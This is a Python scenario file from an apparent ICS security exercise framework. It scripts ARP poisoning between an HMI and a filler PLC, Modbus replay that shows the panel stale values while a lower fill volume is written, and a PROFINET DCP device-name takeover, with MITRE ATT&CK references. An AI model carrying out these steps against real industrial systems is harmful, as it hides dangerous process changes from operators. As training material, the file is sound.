"""Adversary in the middle: the panel sees yesterday's values while the filler is told other set-points."""

import time

from linewarden.exercises.attacks.middle import Relay, poisoned
from linewarden.exercises.attacks.scan import dcp_everybody
from linewarden.exercises.context import Context
from linewarden.exercises.devices import _dcp, filler
from linewarden.exercises.line import gateway
from linewarden.exercises.pace import ticks
from linewarden.exercises.scenario import Scenario, Source, Step
from linewarden.exercises.scenarios._steps import modbus_write

LISTEN_S, REPLAY_S = 8.0, 14.0
HIDDEN_FILL_ML = 450
PLAY_S = 13.0
XID = 0x0BAD


def _middle(ctx: Context) -> str:
    relay = Relay(ctx, server="plc-filler", client="hmi-line1")
    relay.start()
    with poisoned(ctx, "hmi-line1", "plc-filler"):
        time.sleep(LISTEN_S)
        ctx.impact_begins()
        relay.replay.replaying = True
        time.sleep(1.0)
        said = modbus_write(ctx, "plc-filler", filler.FILL_ML, [HIDDEN_FILL_ML])
        time.sleep(REPLAY_S)
    relay.ended = True
    relay.join(2)
    if not relay.replay.replaced:
        raise ConnectionError(f"nothing was replayed ({relay.passed} frames passed)")
    seen = f"{relay.passed} frames passed through, {relay.replay.replaced} answers replayed"
    return f"{seen}; content {HIDDEN_FILL_ML} ml: {said}"


def _name(ctx: Context) -> str:
    """The remote I/O loses its name to us: its controller then finds us under it."""
    before = dcp_everybody(ctx)
    wire = _dcp.Wire()
    found = _dcp.ask(wire, XID, "io-capper")
    target = found.get("io-capper")
    if target is None:
        raise ConnectionError("io-capper does not answer")
    confirmed = _dcp.set_name(wire, target, XID + 1, "spare-io")
    played = _dcp.Station("io-capper", "AXL F BK PN", 0x00B0, 0x0142, _dcp.IO_DEVICE, ctx.own, gateway("cell"))
    _dcp.respond(wire, played, PLAY_S)
    restored = _dcp.set_name(wire, target, XID + 2, "io-capper")
    return (
        f"{', '.join(before)} answered; renamed: {confirmed}; played io-capper for {PLAY_S:.0f} s; restored: {restored}"
    )


def _panel(ctx: Context) -> str:
    """What the machine really fills while the panel shows the remembered values."""
    lowest = min(ctx.board.get("plant.fill_ml") for _ in ticks(0.2, 30))
    return f"the machine filled as little as {lowest:.0f} ml"


SCENARIO = Scenario(
    title="Adversary in the middle with replayed values (ARP, DCP)",
    kind="incident",
    summary="A laptop poisons the ARP caches of panel and filler, relays their Modbus session, then answers the "
    "panel's reads from memory while it lowers the content itself. The SCADA server, on another way, sees "
    "the true values. Then it takes the name of a PROFINET I/O device by DCP.",
    seconds=75,
    sources=(
        Source("R. Langner, To Kill a Centrifuge, 2013 (recorded values replayed to the operators)",
               "https://www.langner.com/to-kill-a-centrifuge/"),
        Source("MITRE ATT&CK T0830: Adversary-in-the-Middle", "https://attack.mitre.org/techniques/T0830/"),
    ),
    steps=(
        Step("middle", 8, "laptop-service", "between panel and filler: listens, replays, changes the content", _middle,
             ("hmi-line1", "plc-filler"), ("T0830", "T0856", "T0832", "T0836"), hostile=True, impact=True),
        Step("filled", 9, "io-filler", "what is really filled", _panel, observes=True),
        Step("name", 42, "laptop-service", "takes the station name of the capper's remote I/O by DCP", _name,
             ("io-capper", "plc-capper"), ("T0830", "T0849"), hostile=True),
    ),
)  # fmt: skip
